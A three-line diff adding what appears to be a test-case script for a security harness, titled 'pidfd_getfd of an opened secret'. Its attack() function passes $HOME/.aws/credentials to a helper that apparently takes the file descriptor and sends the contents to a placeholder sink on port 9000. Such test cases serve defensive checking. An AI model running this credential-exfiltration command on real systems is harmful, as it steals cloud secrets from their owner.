@@ -1,0 +1,3 @@
+# SPDX-License-Identifier: Apache-2.0
+TITLE="pidfd_getfd of an opened secret"
+attack() { "$PROVOKE/holder" getfd "$HOME/.aws/credentials" "$SINK4" 9000; }
